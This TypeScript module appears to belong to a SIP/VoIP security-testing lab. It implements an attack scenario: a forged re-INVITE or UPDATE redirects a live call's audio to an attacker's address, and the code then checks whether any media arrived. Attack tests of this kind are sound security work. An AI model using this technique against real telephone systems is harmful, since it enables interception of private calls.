/** Taking a call's media by a forged offer: the side that accepts it sends to the attacker what it says (S2-28, S2-29). */
import type { Scene } from './forgery.ts';
import { inDialog, other } from './stolen.ts';
import { Voice } from './voice.ts';

/** Milliseconds of listening to what comes: a telephone with comfort noise sends little while its user is silent. */
const LISTEN = 2_000;

/** A strike with a re-INVITE or an UPDATE; true if media came to the attacker. */
export function offering(method: 'INVITE' | 'UPDATE'): (scene: Scene) => Promise<boolean> {
  return async ({ lab, way, disguise, victim, call, as }) => {
    // Most telephones believe the description; those of the lab learn from what comes, unless told not to.
    const fooled = victim.leg(other(as))?.media;
    if (fooled !== undefined) fooled.symmetric = false;
    const voice = await Voice.open(lab, 'attack', disguise.actor.address);
    const contact = ['Contact', `<${call[as].contact}>`] as const;
    const request = inDialog(call, as, way, method, 1, [contact], voice.description(lab));
    const status = await disguise.send(request, call, as);
    if (method === 'INVITE' && (status === -1 || status === 200)) await acknowledge();
    await lab.sleep(LISTEN);
    voice.close();
    return voice.received > 2;

    async function acknowledge(): Promise<void> {
      const { body: _, ...ack } = inDialog(call, as, way, 'ACK', 1);
      await disguise.pass(ack, call, as);
    }
  };
}
